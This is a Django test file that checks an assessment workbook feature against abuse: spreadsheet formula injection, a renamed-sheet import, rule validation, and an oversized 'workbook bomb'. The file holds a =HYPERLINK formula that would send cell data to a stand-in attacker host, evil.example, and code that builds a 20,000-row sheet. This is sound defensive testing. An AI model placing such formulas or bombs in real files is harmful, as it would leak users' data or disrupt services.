"""Workshop workbooks cannot be turned against users: no formula out, no bomb or silent skip in."""

from __future__ import annotations

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse
from django_scopes import scope
from openpyxl import load_workbook

from arusha.assessments import services
from arusha.assessments.models import Response
from arusha.frameworks.models import Question

TRAP = '=HYPERLINK("http://evil.example/?"&A1, "Click to see the evidence for this measure")'


def _no_formula_anywhere(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _export(client, cast, world):  # type: ignore[no-untyped-def]
    client.force_login(cast.owner)
    url = reverse("assessment-workbook-export", args=[cast.customs.slug, world.assessment.pk])
    response = client.get(url)
    assert response.status_code == 200
    return response.content


def _import(client, cast, world, content):  # type: ignore[no-untyped-def]
    """Upload, let the worker import (the callbacks run as the block ends), reload the page."""
    url = reverse("assessment-workbook", args=[cast.customs.slug, world.assessment.pk])
    with TestCase.captureOnCommitCallbacks(execute=True):
        assert client.post(url, {"file": SimpleUploadedFile("filled.xlsx", content)}).status_code == 302
    return client.get(url)


def test_an_answer_written_as_a_formula_is_exported_as_text(client, cast, world, small_pack) -> None:  # type: ignore[no-untyped-def]
    question = Question.objects.get(version=small_pack, code="KF2.1")
    services.response_save(
        actor=cast.owner, assessment=world.assessment, question=question, narrative=TRAP, ratings={}
    )
    texts = _no_formula_anywhere(_export(client, cast, world))
    assert TRAP in texts


def test_a_renamed_sheet_is_refused_and_named(client, cast, world) -> None:  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(_export(client, cast, world)))
    book["KF2"]["E2"] = "Rules are published on the website and at every border post, in two languages."
    book["KF2"].title = "KF2 filled"
    buffer = io.BytesIO()
    book.save(buffer)
    page = _import(client, cast, world, buffer.getvalue()).content.decode()
    assert "The sheet “KF2” is missing: it was renamed or deleted." in page
    assert "The sheet “KF2 filled” was not in the exported workbook" in page
    with scope(organization=cast.customs):
        assert not Response.objects.filter(question__code="KF2.1").exists()


def test_rows_are_held_to_the_rules_of_the_answer_form(client, cast, world) -> None:  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(_export(client, cast, world)))
    book["KF2"]["E2"] = "yes"
    book["KF3"]["E2"] = "The register is kept by the unit and checked every quarter by the auditors."
    book["KF3"]["F2"], book["KF3"]["G2"] = "no", "yes"  # no measure, yet adequately designed
    buffer = io.BytesIO()
    book.save(buffer)
    response = _import(client, cast, world, buffer.getvalue())
    page = response.content.decode()
    assert "The work failed." in page
    assert "Sheet KF2, row 2, column E (Answer): A bare “yes” or “no” is not an answer." in page
    assert "Sheet KF3, row 2, column G" in page
    with scope(organization=cast.customs):
        assert not Response.objects.filter(question__code__in=["KF2.1", "KF3.1"]).exists()


def test_a_workbook_bomb_is_refused_with_a_clear_message(client, cast, world) -> None:  # type: ignore[no-untyped-def]
    content = _export(client, cast, world)
    rows = b"".join(b'<row r="%d"/>' % n for n in range(1, 20_001))
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + rows
        + b"</sheetData></worksheet>"
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            data = source.read(member)
            target.writestr(member, sheet if member.filename == "xl/worksheets/sheet2.xml" else data)
    response = _import(client, cast, world, out.getvalue())
    assert "has more than 5,000 rows" in response.content.decode()
